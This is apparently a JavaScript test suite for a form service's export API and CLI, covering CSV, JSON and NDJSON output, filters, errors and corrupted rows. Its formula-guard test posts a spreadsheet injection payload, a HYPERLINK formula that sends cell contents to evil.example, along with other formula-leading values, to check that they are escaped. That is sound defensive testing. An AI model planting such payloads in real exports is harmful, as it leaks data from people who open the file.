// Exports: GET /api/v1/endpoints/{id}/export?format=csv|json|ndjson and
// `inlet export`. Every format gives back what was posted (commas, quotes,
// newlines, unicode, repeated names, files), oldest first; since/until/status
// filter; CSV is RFC 4180 with the formula guard and the column cap; errors
// before the stream are JSON; the CLI on the stopped server's data folder
// writes the API's bytes; an unreadable row is marked, not dropped.
// Performance is measured by bench/export, not asserted here.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { execFileSync } from 'node:child_process';
import { readFile, stat } from 'node:fs/promises';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { makeDataDir, makeTempDir, startServer, cleanup, newAccount, runInlet, storeSql } from '../lib/inlet.mjs';
import { apiClient, createEndpoint, postForm, getSubmission, request } from '../lib/http.mjs';

const T = { timeout: 180_000 };
const NO_LIMIT = { rate_limit: { per_minute: 0, burst: 1 } };
const sql = (db, q) => execFileSync('sqlite3', [db, q], { encoding: 'utf8' }).trim();

let data;
let server;
let acct;
let other;
let api;
let ep;
/** The main endpoint's posts, oldest first: {id, t (created_at ms)}. */
const posted = [];

const exportUrl = (id, query) => `/api/v1/endpoints/${id}/export?${query}`;
const get = (id, query, client = api) => client.get(exportUrl(id, query));

async function post(kind, body, key = ep.key) {
  const r = await postForm(server.url, key, kind, body);
  assert.equal(r.status, 200, r.text);
  await sleep(5); // created_at strictly increases from post to post
  return r.json.id;
}

before(async () => {
  data = await makeDataDir();
  acct = await newAccount(data);
  other = await newAccount(data);
  server = await startServer(data);
  api = apiClient(server.url, acct.token);
  ep = await createEndpoint(api, 'Export test', NO_LIMIT);

  posted.push({ id: await post('multipart', [
    { name: 'name', value: 'Lovelace, Ada' },
    { name: 'message', value: 'She said "hi"\nline 2\r\nline 3, with a comma' },
    { name: 'tag', value: 'a' },
    { name: 'tag', value: 'b, c' },
    { name: 'greeting', value: 'héllo ✓ 日本語 🎉' },
    { name: 'doc', filename: 'notes.txt', contentType: 'text/plain', data: Buffer.from('some notes\n') },
    { name: 'doc', filename: 'ünï cödé.bin', data: Buffer.from([0, 1, 2, 3]) },
  ]) });
  posted.push({ id: await post('urlencoded', [
    ['eq', '=HYPERLINK("http://evil.example/?"&A1,"x")'], ['plus', '+SUM(A1:A2)'], ['minus', '-3'],
    ['at', '@cmd'], ['tab', '\tx'], ['cr', '\rx'], ['safe', 'a=b'], ['id', 'field named id'],
    ['status', 'field named status'], ['empty', ''],
  ]) });
  posted.push({ id: await post('json', { n: 5, flag: true, nested: { k: 'v' }, list: [1, 'two', null], name: 'json post' }) });
  posted.push({ id: await post('urlencoded', [['name', 'to be spam'], ['message', 'buy now']]) });
  posted.push({ id: await post('urlencoded', [['name', 'last'], ['late', 'only here']]) });
  const spam = await api.patch(`/api/v1/submissions/${posted[3].id}`, { status: 'spam' });
  assert.equal(spam.status, 200, spam.text);
  for (const p of posted) p.t = Date.parse((await getSubmission(api, p.id)).created_at);
});
after(cleanup);

// ---------------------------------------------------------------------------
// CSV as RFC 4180 says: CRLF after every record, quotes only around a whole
// cell, "" for a quote inside.

function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let i = 0;
  let atStart = true;
  while (i < text.length) {
    const c = text[i];
    if (atStart && c === '"') {
      i++;
      for (;;) {
        assert.ok(i < text.length, 'a quoted cell ends');
        if (text[i] === '"') {
          if (text[i + 1] === '"') { cell += '"'; i += 2; continue; }
          i++;
          break;
        }
        cell += text[i++];
      }
      assert.ok(i >= text.length || text[i] === ',' || text[i] === '\r', `a quoted cell ends at a separator (offset ${i})`);
      atStart = false;
      continue;
    }
    if (c === ',') { row.push(cell); cell = ''; i++; atStart = true; continue; }
    if (c === '\r') {
      assert.equal(text[i + 1], '\n', `CR then LF (offset ${i})`);
      row.push(cell); rows.push(row); row = []; cell = ''; i += 2; atStart = true;
      continue;
    }
    assert.notEqual(c, '\n', `no bare LF outside quotes (offset ${i})`);
    assert.notEqual(c, '"', `no quote inside an unquoted cell (offset ${i})`);
    cell += c; i++; atStart = false;
  }
  assert.ok(row.length === 0 && cell === '', 'the last record ends with CRLF');
  return rows;
}

const guard = (s) => (s.length && '=+-@\t\r'.includes(s[0]) ? `'${s}` : s);
const scalar = (v) => (v === null || v === undefined ? '' : typeof v === 'string' ? v : JSON.stringify(v));
const cellOf = (v) => guard(Array.isArray(v) ? v.map(scalar).join(', ') : scalar(v));
const META = ['subject', 'reply_to', 'referrer', 'origin', 'user_agent', 'ip', 'spam_reason'];
const FIXED = new Set(['id', 'created_at', 'status', 'files', 'error', 'other_fields']);

/** The CSV an export of `subs` (API objects, oldest first) must be, as rows of cells. */
function expectedCsv(subs, { cap = 1000 } = {}) {
  const names = [];
  let overflow = false;
  for (const s of subs) {
    for (const k of Object.keys(s.fields || {})) {
      if (names.includes(k)) continue;
      if (names.length >= cap) overflow = true;
      else names.push(k);
    }
  }
  const header = ['id', 'created_at', 'status', ...names.map((n) => guard(FIXED.has(n) || n.startsWith('meta.') || n.startsWith('fields.') ? `fields.${n}` : n))];
  if (overflow) header.push('other_fields');
  header.push('files', ...META.map((m) => `meta.${m}`), 'error');
  const rows = subs.map((s) => {
    const f = s.fields || {};
    const row = [s.id, s.created_at, s.status, ...names.map((n) => cellOf(f[n]))];
    if (overflow) {
      const rest = Object.fromEntries(Object.entries(f).filter(([k]) => !names.includes(k)));
      row.push(Object.keys(rest).length ? cellOf(rest) : '');
    }
    row.push(guard((s.files || []).map((x) => x.name).join(', ')), ...META.map((m) => cellOf((s.meta || {})[m])), s.error || '');
    return row;
  });
  return [header, ...rows];
}

async function exportAll(id, query = '', client = api) {
  const out = {};
  for (const format of ['ndjson', 'json', 'csv']) {
    const r = await get(id, `format=${format}${query ? `&${query}` : ''}`, client);
    assert.equal(r.status, 200, `${format}: ${r.text.slice(0, 300)}`);
    out[format] = r;
  }
  return out;
}

const ndjsonObjects = (text) => {
  assert.ok(text === '' || text.endsWith('\n'), 'every line ends with LF');
  return text.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l));
};

// ---------------------------------------------------------------------------

test('ndjson: one line per submission, oldest first, each byte for byte GET /submissions/{id}', T, async () => {
  const r = await get(ep.id, 'format=ndjson');
  assert.equal(r.status, 200, r.text);
  assert.match(String(r.headers['content-type']), /^application\/x-ndjson/);
  assert.equal(r.headers['transfer-encoding'], 'chunked', 'streamed with chunked encoding');
  const lines = r.text.split('\n');
  assert.equal(lines.pop(), '', 'ends with a newline');
  assert.equal(lines.length, posted.length);
  for (let i = 0; i < posted.length; i++) {
    const one = await api.get(`/api/v1/submissions/${posted[i].id}`);
    assert.equal(lines[i], one.text, `line ${i} is the submission's own answer`);
  }
});

test('every format round-trips what was posted', T, async () => {
  const { ndjson, json, csv } = await exportAll(ep.id);
  const subs = ndjsonObjects(ndjson.text);
  assert.deepEqual(subs.map((s) => s.id), posted.map((p) => p.id), 'oldest first');
  assert.deepEqual(json.json, subs, 'json is the array of the same objects');
  assert.match(json.text, /^\[\n/);
  assert.match(json.text, /\n\]\n$/);

  const first = subs[0];
  assert.equal(first.fields.name, 'Lovelace, Ada');
  assert.equal(first.fields.message, 'She said "hi"\nline 2\r\nline 3, with a comma');
  assert.deepEqual(first.fields.tag, ['a', 'b, c']);
  assert.equal(first.fields.greeting, 'héllo ✓ 日本語 🎉');
  assert.deepEqual(first.files.map((f) => f.name), ['notes.txt', 'ünï cödé.bin']);
  assert.deepEqual(subs[2].fields, { n: 5, flag: true, nested: { k: 'v' }, list: [1, 'two', null], name: 'json post' });

  assert.match(String(csv.headers['content-type']), /^text\/csv; charset=utf-8/);
  const rows = parseCsv(csv.body.toString('utf8'));
  assert.deepEqual(rows, expectedCsv(subs));
  const header = rows[0];
  const col = (name) => header.indexOf(name);
  assert.deepEqual(header.slice(0, 3), ['id', 'created_at', 'status']);
  assert.ok(col('fields.id') > 0 && col('fields.status') > 0, 'fields named like fixed columns are prefixed');
  assert.equal(rows[1][col('tag')], 'a, b, c', 'repeated values joined with ", "');
  assert.equal(rows[1][col('files')], 'notes.txt, ünï cödé.bin');
  assert.equal(rows[1][col('message')], first.fields.message, 'newlines and quotes survive');
  assert.equal(rows[3][col('nested')], '{"k":"v"}');
  assert.equal(rows[3][col('list')], '1, two, ');
  assert.equal(rows[4][col('status')], 'spam');
  assert.deepEqual(header.slice(-9), ['files', ...META.map((m) => `meta.${m}`), 'error']);
});

test('CSV formula guard: a cell starting with = + - @ tab or CR gets a leading \'', T, async () => {
  const rows = parseCsv((await get(ep.id, 'format=csv')).body.toString('utf8'));
  const header = rows[0];
  const row = rows[2];
  const cell = (name) => row[header.indexOf(name)];
  assert.equal(cell('eq'), '\'=HYPERLINK("http://evil.example/?"&A1,"x")');
  assert.equal(cell('plus'), "'+SUM(A1:A2)");
  assert.equal(cell('minus'), "'-3");
  assert.equal(cell('at'), "'@cmd");
  assert.equal(cell('tab'), "'\tx");
  assert.equal(cell('cr'), "'\rx");
  assert.equal(cell('safe'), 'a=b', 'only the first character counts');
  assert.equal(cell('empty'), '');
  // Raw bytes: the dangerous cells never start a field in the file.
  const text = (await get(ep.id, 'format=csv')).text;
  for (const bad of [',=', ',+', ',-', ',@', ',"=', ',"+', ',"-', ',"@', ',"\t', ',"\r', ',\t']) {
    assert.ok(!text.includes(bad), `no cell starts with ${JSON.stringify(bad.slice(1))}`);
  }
});

test('Content-Disposition names the endpoint, the day and the extension; no caching', T, async () => {
  const { ndjson, json, csv } = await exportAll(ep.id);
  const day = new Date().toISOString().slice(0, 10);
  for (const [r, ext] of [[ndjson, 'ndjson'], [json, 'json'], [csv, 'csv']]) {
    const cd = String(r.headers['content-disposition']);
    assert.match(cd, /^attachment;/);
    assert.ok(cd.includes(`filename="Export test-${day}.${ext}"`), cd);
    assert.ok(cd.includes(`filename*=UTF-8''Export%20test-${day}.${ext}`), cd);
    assert.equal(r.headers['cache-control'], 'no-store');
    assert.equal(r.headers['x-content-type-options'], 'nosniff');
  }
});

test('a name with a slash makes a file name without one; HEAD answers the headers alone', T, async () => {
  const slashed = await createEndpoint(api, 'forms/contact', NO_LIMIT);
  await post('urlencoded', [['a', '1']], slashed.key);
  const day = new Date().toISOString().slice(0, 10);
  for (const format of ['csv', 'ndjson']) {
    const r = await get(slashed.id, `format=${format}`);
    assert.equal(r.status, 200);
    assert.ok(String(r.headers['content-disposition']).includes(`filename="forms_contact-${day}.${format}"`), r.headers['content-disposition']);
    const head = await api.call('HEAD', exportUrl(slashed.id, `format=${format}`));
    assert.equal(head.status, 200);
    assert.equal(head.body.length, 0);
    assert.equal(head.headers['content-disposition'], r.headers['content-disposition']);
    assert.equal(head.headers['content-type'], r.headers['content-type']);
  }
});

test('since (inclusive), until (exclusive) and status filter every format', T, async () => {
  const ids = async (query) => {
    const { ndjson, json, csv } = await exportAll(ep.id, query);
    const a = ndjsonObjects(ndjson.text).map((s) => s.id);
    assert.deepEqual(json.json.map((s) => s.id), a, `${query}: json = ndjson`);
    assert.deepEqual(parseCsv(csv.text).slice(1).map((r) => r[0]), a, `${query}: csv = ndjson`);
    return a;
  };
  const all = posted.map((p) => p.id);
  assert.deepEqual(await ids(`since=${posted[1].t}`), all.slice(1));
  assert.deepEqual(await ids(`since=${new Date(posted[1].t).toISOString()}`), all.slice(1), 'ISO 8601 too');
  assert.deepEqual(await ids(`until=${posted[2].t}`), all.slice(0, 2));
  assert.deepEqual(await ids(`since=${posted[1].t}&until=${posted[3].t}`), all.slice(1, 3));
  assert.deepEqual(await ids('status=spam'), [posted[3].id]);
  assert.deepEqual(await ids('status=inbox'), all.filter((_, i) => i !== 3));
  assert.deepEqual(await ids('status=trash'), []);
  assert.deepEqual(await ids(`since=${posted[4].t + 1000}`), []);
});

test('an empty export is still well formed in every format', T, async () => {
  const empty = await createEndpoint(api, 'nothing yet', NO_LIMIT);
  const { ndjson, json, csv } = await exportAll(empty.id);
  assert.equal(ndjson.text, '');
  assert.deepEqual(json.json, []);
  assert.deepEqual(parseCsv(csv.text), [['id', 'created_at', 'status', 'files', ...META.map((m) => `meta.${m}`), 'error']]);
});

test('errors before the stream are JSON: 400 for bad parameters, 401, 404 for another account', T, async () => {
  const bad = [
    ['', 'format missing'], ['format=xml', 'unknown format'], ['format=CSV', 'formats are lower case'],
    ['format=csv&since=yesterday', 'bad since'], ['format=json&until=2026-13-45', 'bad until'],
    ['format=ndjson&status=deleted', 'bad status'],
  ];
  for (const [q, why] of bad) {
    const r = await get(ep.id, q);
    assert.equal(r.status, 400, `${why}: ${r.status} ${r.text}`);
    assert.match(String(r.headers['content-type']), /^application\/json/);
    assert.equal(r.json?.error?.code, 'invalid', why);
  }
  const anon = await request(`${server.url}${exportUrl(ep.id, 'format=csv')}`);
  assert.equal(anon.status, 401);
  const theirs = await get(ep.id, 'format=csv', apiClient(server.url, other.token));
  assert.equal(theirs.status, 404, 'another account\'s endpoint is not found');
  assert.equal(theirs.json?.error?.code, 'not_found');
  assert.ok(!theirs.text.includes(posted[0].id));
  const none = await get('ep_doesNotExist0000', 'format=csv');
  assert.equal(none.status, 404);
});

test('CSV columns: first-seen order, at most 1000; the rest go to other_fields', T, async () => {
  const wide = await createEndpoint(api, 'wide', NO_LIMIT);
  for (let p = 0; p < 3; p++) {
    const pairs = Array.from({ length: 400 }, (_, j) => [`c${p}_${j}`, `v${p}_${j}`]);
    await post('urlencoded', pairs, wide.key);
  }
  await post('urlencoded', [['c0_5', 'again'], ['c2_399', 'late']], wide.key);
  const { ndjson, csv } = await exportAll(wide.id);
  const subs = ndjsonObjects(ndjson.text);
  const rows = parseCsv(csv.text);
  assert.deepEqual(rows, expectedCsv(subs));
  const header = rows[0];
  assert.equal(header.length, 3 + 1000 + 1 + 1 + META.length + 1);
  assert.equal(header[3], 'c0_0');
  assert.equal(header[3 + 999], 'c2_199');
  assert.equal(header[3 + 1000], 'other_fields');
  const other3 = JSON.parse(rows[3][3 + 1000]);
  assert.equal(Object.keys(other3).length, 200);
  assert.equal(other3.c2_399, 'v2_399');
  assert.deepEqual(JSON.parse(rows[4][3 + 1000]), { c2_399: 'late' });
  assert.equal(rows[4][3 + 5], 'again');
  assert.equal(rows[1][3 + 1000], '', 'no other fields: empty cell');
});

test('3,000 submissions (six store pages): every one once, oldest first, in every format', T, async () => {
  const big = await createEndpoint(api, 'big', NO_LIMIT);
  const N = 3000;
  const agent = new http.Agent({ keepAlive: true, maxSockets: 32 });
  const ids = [];
  let next = 0;
  const worker = async () => {
    while (next < N) {
      const i = next++;
      // A field that appears late makes a column that earlier rows leave empty.
      const body = { i, [`k${i % 7}`]: `row ${i}`, ...(i === N - 1 ? { last_only: 'yes' } : {}) };
      const r = await postForm(server.url, big.key, 'json', body, { agent });
      assert.equal(r.status, 200, r.text);
      ids.push(r.json.id);
    }
  };
  await Promise.all(Array.from({ length: 32 }, worker));
  agent.destroy();

  const { ndjson, json, csv } = await exportAll(big.id);
  const subs = ndjsonObjects(ndjson.text);
  assert.equal(subs.length, N);
  assert.deepEqual(new Set(subs.map((s) => s.id)), new Set(ids), 'exactly the posted ids');
  for (let i = 1; i < subs.length; i++) assert.ok(subs[i - 1].created_at <= subs[i].created_at, 'oldest first');
  assert.deepEqual(json.json, subs);
  const rows = parseCsv(csv.text);
  assert.equal(rows.length, N + 1);
  assert.deepEqual(rows, expectedCsv(subs));
  assert.ok(rows[0].includes('last_only'), 'a name seen only in the last row has its column');
});

test('the CLI on the stopped server\'s data folder writes the API\'s bytes', T, async () => {
  const api1 = {};
  for (const format of ['csv', 'json', 'ndjson']) api1[format] = (await get(ep.id, `format=${format}`)).body;
  const sinceApi = (await get(ep.id, `format=ndjson&since=${posted[1].t}&until=${posted[4].t}&status=inbox`)).body;

  const busy = await runInlet(['export', '--data', data, ep.id, '--format', 'csv']);
  assert.equal(busy.code, 1, 'refused while a server serves the folder');
  assert.match(busy.stderr, /serv/);
  assert.equal(busy.stdout, '');

  await server.stop();
  const dir = await makeTempDir();
  for (const format of ['csv', 'json', 'ndjson']) {
    const r = await runInlet(['export', '--data', data, ep.id, '--format', format]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, api1[format].toString('utf8'), `${format} on stdout = the API's`);
    assert.match(r.stderr, new RegExp(`exported ${posted.length} submissions`));
    const out = path.join(dir, `out.${format}`);
    const f = await runInlet(['export', '--data', data, ep.id, '--format', format, '--out', out]);
    assert.equal(f.code, 0, f.stderr);
    assert.ok((await readFile(out)).equals(api1[format]), `${format} --out = the API's`);
    assert.equal((await stat(out)).mode & 0o777, 0o600, 'only the owner reads an export');
  }
  const filtered = await runInlet(['export', '--data', data, ep.id, '--format', 'ndjson',
    '--since', String(posted[1].t), '--until', new Date(posted[4].t).toISOString(), '--status', 'inbox']);
  assert.equal(filtered.code, 0, filtered.stderr);
  assert.equal(filtered.stdout, sinceApi.toString('utf8'), 'the same filters, the same rows');

  server = await startServer(data);
  api = apiClient(server.url, acct.token);
});

test('inlet export: --help, usage errors exit 2, unknown endpoint exits 1', T, async () => {
  const help = await runInlet(['export', '--help']);
  assert.equal(help.code, 0);
  assert.match(help.stdout, /usage: inlet export/);
  const main = await runInlet(['--help']);
  assert.match(main.stdout, /\bexport\b/);
  const dir = await makeDataDir();
  for (const args of [
    ['export', '--data', dir, 'ep_x'],
    ['export', '--data', dir, 'ep_x', '--format', 'xml'],
    ['export', '--data', dir, '--format', 'csv'],
    ['export', '--data', dir, 'ep_x', 'ep_y', '--format', 'csv'],
    ['export', '--data', dir, 'ep_x', '--format', 'csv', '--since', 'soon'],
    ['export', '--data', dir, 'ep_x', '--format', 'csv', '--status', 'gone'],
    ['export', '--data', dir, 'ep_x', '--format', 'csv', '--frobnicate'],
  ]) {
    const r = await runInlet(args);
    assert.equal(r.code, 2, `${args.join(' ')} → ${r.code}\n${r.stderr}`);
    assert.match(r.stderr, /usage/);
  }
  const none = await runInlet(['export', '--data', dir, 'ep_doesNotExist0000', '--format', 'csv']);
  assert.equal(none.code, 1);
  assert.match(none.stderr, /no endpoint/);
});

test('a row that cannot be opened is marked and counted; the others still go out', T, async () => {
  const ep2 = await createEndpoint(api, 'tamper', NO_LIMIT);
  const ids = [];
  for (let i = 0; i < 3; i++) ids.push(await post('urlencoded', [['n', String(i)], ['note', `row ${i}`]], ep2.key));
  await server.stop();
  const internal = storeSql(data, 'tenant', `SELECT id FROM endpoints WHERE pid='${ep2.id}'`);
  const which = `id=(SELECT id FROM submissions WHERE endpoint_id=${internal} ORDER BY id LIMIT 1 OFFSET 1)`;
  storeSql(data, 'shared', {
    sqlite: `UPDATE submissions SET sealed=randomblob(length(sealed)) WHERE ${which}`,
    postgres: `UPDATE submissions SET sealed=set_byte(sealed, 20, 255 - get_byte(sealed, 20)) WHERE ${which}`,
  });

  const cli = await runInlet(['export', '--data', data, ep2.id, '--format', 'ndjson']);
  assert.equal(cli.code, 1, 'exit 1: one submission could not be opened');
  assert.match(cli.stderr, /1 submissions could not be opened/);
  const cliRows = ndjsonObjects(cli.stdout);
  assert.deepEqual(cliRows.map((s) => s.id), ids, 'every row is there, in order');

  server = await startServer(data);
  api = apiClient(server.url, acct.token);
  const { ndjson, json, csv } = await exportAll(ep2.id);
  const subs = ndjsonObjects(ndjson.text);
  assert.equal(ndjson.text, cli.stdout, 'the CLI and the API agree');
  assert.deepEqual(subs.map((s) => s.id), ids);
  assert.deepEqual(subs[0].fields, { n: '0', note: 'row 0' });
  assert.equal(typeof subs[1].error, 'string');
  assert.ok(subs[1].error.length > 0, 'the row says why');
  assert.equal(subs[1].fields, undefined, 'nothing of an unreadable row but its envelope');
  assert.deepEqual(subs[2].fields, { n: '2', note: 'row 2' });
  assert.deepEqual(json.json, subs);
  const rows = parseCsv(csv.text);
  assert.deepEqual(rows, expectedCsv(subs));
  assert.equal(rows[2][rows[0].indexOf('error')], subs[1].error);
  assert.equal(rows[2][rows[0].indexOf('note')], '');
  const h = await request(`${server.url}/healthz`);
  assert.equal(h.status, 200, 'the server is fine');
});

test('stops cleanly', T, async () => {
  await server.stop();
});
